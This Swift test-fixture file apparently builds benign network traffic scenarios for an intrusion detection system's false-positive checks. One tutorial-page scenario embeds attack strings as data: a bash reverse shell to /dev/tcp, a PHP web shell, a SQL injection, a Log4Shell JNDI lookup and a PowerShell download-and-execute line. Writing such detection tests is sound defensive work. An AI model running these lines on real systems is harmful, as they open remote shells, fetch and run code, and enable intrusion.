import NetTypes
import TestSupport

extension Scenario {
    /// Traffic that must stay silent; the last two are full of words that lie near the rules.
    static var benign: [Scenario] { [browsing, names, mail, noise, tutorials, fileShare] }

    private static var browsing: Scenario {
        var generator = SeededGenerator(seed: 47001)
        var talks: [[Frame]] = []
        let targets = [
            "/", "/tin-tuc/index.php?id=5&cmd=list", "/tim-kiem?q=sql+union+select+tutorial",
            "/thu-tuc.aspx?command=identify&page=2", "/kho/ban-do.bin",
        ]
        for (index, target) in targets.enumerated() {
            var talk = Conversation(
                client: "198.51.100.\(50 + index)", UInt16(47001 + index), server: "203.0.113.10", 80,
                start: Timestamp.scene.advanced(by: Int64(index) * 3_500_000))
            talk.usesTimestamps = index % 2 == 0
            talk.handshake()
            talk.client(sends: Text.request("GET", target, host: "tinh.example"))
            if target.hasSuffix(".bin") {
                talk.server(
                    sends: Text.response(
                        Text.noise(length: 9000, from: &generator), type: "application/octet-stream"))
            } else {
                let page = Text.prose(length: 4000, from: &generator)
                talk.server(sends: Text.response(page, type: "text/html; charset=utf-8"))
            }
            talk.close()
            talks.append(talk.frames)
        }
        return Scenario("benign/web-browsing", .merged(talks))
    }

    private static var names: Scenario {
        var talk = DatagramExchange(client: "198.51.100.50", 47010, server: "198.51.100.2", 53)
        let names = [
            "tinh.example", "dichvucong.example", "dnscat-tai-lieu.example", "cdn.dnscat.example",
            "a1b2c3d4e5f60718293a4b5c6d7e8f90.cdn.example", "xn--tnh-7la.example",
            "aabbccddeeffgghhiijjkkllmmnnooppqqrrssttuuvvwwxxyyzz.example",
        ]
        for (index, name) in names.enumerated() {
            let identifier = UInt16(0x6100 + index)
            talk.client(sends: NameMessage.query(name, identifier: identifier))
            talk.server(sends: NameMessage.answer(name, identifier: identifier, data: [203, 0, 113, 10]))
        }
        let record = Array("v=spf1 ip4:198.51.100.0/24 -all".utf8)
        talk.client(sends: NameMessage.query("tinh.example", type: 16, identifier: 0x6200))
        talk.server(
            sends: NameMessage.answer(
                "tinh.example", type: 16, identifier: 0x6200, data: [UInt8(record.count)] + record))
        return Scenario("benign/name-lookups", talk.frames)
    }

    private static var mail: Scenario {
        var talk = Conversation(client: "198.51.100.70", 47020, server: "198.51.100.25", 25)
        talk.handshake()
        talk.server(sends: "220 thu.example ESMTP\r\n")
        let commands = [
            "EHLO may1.example", "MAIL FROM:<canbo@tinh.example>", "RCPT TO:<quantri@tinh.example>",
        ]
        for line in commands {
            talk.client(sends: line + "\r\n")
            talk.server(sends: "250 OK\r\n")
        }
        talk.client(sends: "DATA\r\n")
        talk.server(sends: "354 Go ahead\r\n")
        let text = [
            "From: canbo@tinh.example", "To: quantri@tinh.example", "Subject: Báo cáo trực ca", "",
            "Đã thử tệp EICAR-STANDARD trên máy trạm, phần mềm diệt vi-rút báo đúng.",
            "Lệnh id trên máy chủ trả về uid=33(www-data), gid=33(www-data) như cũ.",
            "Khi chạy lại dịch vụ có dòng: bash: no job control in this shell. Không sao.",
            "powershell -ep bypass chỉ dùng cho bản vá; powershell -e thì không được.",
            "Máy in ở phòng một cửa mất nối tới \\\\may-in\\IPC$ từ 8 giờ.", "",
        ]
        talk.client(sends: text.joined(separator: "\r\n") + "\r\n.\r\n", segment: 120)
        talk.server(sends: "250 Queued\r\n")
        talk.client(sends: "QUIT\r\n")
        talk.server(sends: "221 Bye\r\n")
        talk.close()
        return Scenario("benign/mail", talk.frames)
    }

    private static var noise: Scenario {
        var generator = SeededGenerator(seed: 47030)
        var talk = Conversation(client: "2001:db8:50::50", 47030, server: "2001:db8:10::10", 443)
        func record(_ length: Int) -> [UInt8] {
            var bytes: [UInt8] = [0x17, 3, 3]
            bytes.append(bigEndian: UInt16(length))
            return bytes + Text.noise(length: length, from: &generator)
        }
        talk.handshake()
        for length in [512, 1200, 16000] {
            talk.client(sends: record(200))
            talk.server(sends: record(length), segment: 1428)
        }
        talk.close()
        return Scenario("benign/random-bytes", talk.frames)
    }

    /// A help page about attacks, a package manager's documented installation, and a key with its middle left out.
    private static var tutorials: Scenario {
        var broken = Array(Payload.eicar.utf8)
        broken[20] = 0x2e
        let page = [
            "<h1>Nhận biết tấn công</h1>", "<pre>$ bash -i &gt;&amp; /dev/tcp/192.0.2.1/4444 0&gt;&amp;1",
            "bash: no job control in this shell", "# id", "uid=0(root) gid=0(root) groups=0(root)</pre>",
            "<p>Mã độc: &lt;?php system($_GET['cmd']); ?&gt; rồi gọi /anh.php?cmd=whoami</p>",
            "<p>SQL: <code>?so=1%27%20UNION%20SELECT%20NULL,ten%20FROM%20can_bo</code></p>",
            "<p>Nhật ký: <code>$" + "{jndi:ldap://drill.invalid/a}</code></p>",
            "<p>iex ((New-Object System.Net.WebClient).DownloadString('https://goi.example/install.ps1'))</p>",
            "<pre>-----BEGIN RSA PRIVATE" + " KEY-----", "...", "-----END RSA PRIVATE" + " KEY-----</pre>",
            "<p>powershell -EncodedCommand &lt;base64&gt;</p>", String(decoding: broken, as: UTF8.self),
        ]
        var talk = Conversation(client: "198.51.100.51", 47040, server: "203.0.113.11", 80)
        talk.handshake()
        talk.client(sends: Text.request("GET", "/huong-dan?q=union+select+from", host: "hoctap.example"))
        talk.server(sends: Text.response(page.joined(separator: "\n")))
        talk.close()
        return Scenario("benign/near-words", talk.frames)
    }

    /// An ordinary SMB1 client: the share of named pipes, then a search in a folder.
    private static var fileShare: Scenario {
        var talk = Conversation(client: "198.51.100.52", 47050, server: "198.51.100.60", 445)
        talk.handshake()
        talk.client(sends: Payload.treeConnect(host: "tep.example"))
        talk.server(sends: Payload.smb(command: 0x75, [0, 0, 0]))
        talk.client(sends: Payload.trans2(subcommand: 0x01))
        talk.server(sends: Payload.smb(command: 0x32, [0, 0, 0]))
        talk.close()
        return Scenario("benign/file-share", talk.frames)
    }
}
